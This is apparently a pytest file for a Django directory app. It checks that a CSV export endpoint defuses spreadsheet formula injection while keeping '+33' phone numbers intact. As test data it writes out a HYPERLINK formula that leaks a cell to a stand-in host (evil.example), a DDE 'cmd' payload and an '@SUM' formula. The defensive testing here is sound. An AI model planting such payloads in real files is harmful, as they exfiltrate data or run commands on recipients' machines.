"""GET /api/actors/export.csv through the one spreadsheet rule (carto.exports.cells), phone numbers intact."""

from __future__ import annotations

import csv
import io

import pytest

from carto.models import Actor

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Aide CAF")'


def test_a_formula_in_an_open_data_actor_is_neutralised_and_phone_numbers_stay_as_published(client):
    # The directory is open data anyone can add a place to: a name or a description may hold a formula.
    actor = Actor.objects.exclude(telephone="").filter(telephone__startswith="+33").order_by("source_id")[0]
    Actor.objects.filter(pk=actor.pk).update(
        name=PAYLOAD, presentation="\u0001@SUM(A1:A9)", site_web="-2+3+cmd|' /C calc'!A0"
    )
    response = client.get("/api/actors/export.csv")
    assert response.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8")))}
    row = rows[actor.source_id]
    assert row["nom"] == "'" + PAYLOAD
    assert row["presentation_resume"] == "'@SUM(A1:A9)"
    assert row["site_web"] == "'-2+3+cmd|' /C calc'!A0"
    # "+33…" is a number, not a formula: kept byte for byte (the national schema's pattern needs the "+").
    assert row["telephone"] == actor.telephone
    phones = [r["telephone"] for r in rows.values() if r["telephone"]]
    assert phones and all(p.startswith("+33") for p in phones)
